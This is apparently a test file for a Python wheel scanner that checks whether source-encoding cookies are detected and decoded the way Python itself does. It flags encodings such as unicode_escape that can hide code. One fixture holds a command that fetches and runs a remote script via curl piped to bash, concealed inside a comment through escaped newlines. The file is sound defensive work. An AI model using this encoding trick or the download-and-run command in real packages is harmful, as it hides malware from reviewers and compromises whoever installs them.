"""The text that is read of a source is the text that Python would run, under every encoding that Python accepts."""

from __future__ import annotations

import ast
import codecs

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from support.scan import finding_of, rules_of, scan_wheel
from wheelmark.scan import Severity, Verdict
from wheelmark.scan.source_encoding import declared_encoding, decode_source, is_odd, readable_source

ESCAPED = b"# a comment \\x0aimport os\\x0aos.system('curl -s https://get.example.invalid/i | bash')\n"
COOKIES = (
    b"# coding: ",
    b"#!/bin/x\n# vim: set fileencoding=",
    b"\r# coding: ",
    b"# \xe9\n# coding=",
    b"\f\t #coding:\t",
)
CODECS = (
    *("utf-8", "utf8", "latin-1", "iso-8859-15", "cp1252", "ascii", "utf-7", "utf_7", "unicode_escape", "koi8-r"),
    *(
        "raw_unicode_escape",
        "shift_jis",
        "euc_jp",
        "gbk",
        "big5",
        "hz",
        "iso2022_jp",
        "cp037",
        "rot13",
        "no-such-codec",
    ),
)


@pytest.mark.parametrize(
    ("raw", "encoding"),
    [
        (b"", "utf-8"),
        (b"x = 1\n# coding: utf-7\n", "utf-8"),
        (b"# coding: utf-7\n", "utf-7"),
        (b"\n# coding: utf-7\n", "utf-7"),
        (b"\n\n# coding: utf-7\n", "utf-8"),
        (b"\r# coding: utf-7\r", "utf-7"),
        (b"\r\n# coding: utf-7\r\n", "utf-7"),
        (b"#" + b"x" * 9000 + b"\n# coding: utf-7\n", "utf-7"),
        (b"# \xe9\n# coding: utf-7\n", "utf-7"),
        (codecs.BOM_UTF16_LE + b"x\0", "utf-16"),
    ],
)
def test_encoding_is_found_where_python_finds_it(raw: bytes, encoding: str) -> None:
    assert declared_encoding(raw) == encoding


@pytest.mark.filterwarnings("ignore:decoding with:DeprecationWarning", "ignore:invalid escape:DeprecationWarning")
@settings(max_examples=400)
@given(st.sampled_from(COOKIES), st.sampled_from(CODECS), st.text("x='+AG-\\n1~{}é茶\"\r\n#", max_size=30))
def test_whatever_python_reads_of_bytes_is_read_here(cookie: bytes, codec: str, rest: str) -> None:
    raw = cookie + codec.encode() + b"\n" + rest.encode("utf-8")
    try:
        expected = ast.dump(ast.parse(raw))
    except (SyntaxError, ValueError):
        return  # Python does not run it
    assert ast.dump(ast.parse(decode_source(raw))) == expected
    assert ast.dump(ast.parse(readable_source(raw)[0])) == expected


@settings(max_examples=200)
@given(st.binary(max_size=60), st.sampled_from(CODECS))
def test_any_bytes_are_decoded(rest: bytes, codec: str) -> None:
    raw = b"# coding: " + codec.encode() + b"\n" + rest
    assert isinstance(decode_source(raw), str)
    assert readable_source(readable_source(raw)[0])[1] == ""


@pytest.mark.parametrize("codec", ["utf-7", "unicode_escape", "raw_unicode_escape", "hz", "cp037", "punycode", "idna"])
def test_encodings_that_hide_code_are_odd(codec: str) -> None:
    assert is_odd(codec)


@pytest.mark.parametrize(
    "codec", ["utf-8", "latin-1", "cp1252", "mbcs", "gbk", "big5", "shift_jis", "euc_kr", "none-such"]
)
def test_encodings_of_honest_sources_are_not_odd(codec: str) -> None:
    assert not is_odd(codec)


@pytest.mark.parametrize("start", [b"# coding: unicode_escape\n", b"# \xe9\n# coding: unicode_escape\n"])
def test_code_that_an_encoding_hides_is_read_and_said(start: bytes) -> None:
    report = scan_wheel({"widget/__init__.py": start + ESCAPED})
    assert report.verdict is Verdict.MALICIOUS
    assert "shell-download-run" in rules_of(report)
    assert finding_of(report, "deceptive-encoding").severity is Severity.HIGH


def test_same_bytes_under_an_ordinary_encoding_are_a_comment() -> None:
    assert scan_wheel({"widget/__init__.py": b"# coding: latin-1\n" + ESCAPED}).verdict is Verdict.BENIGN
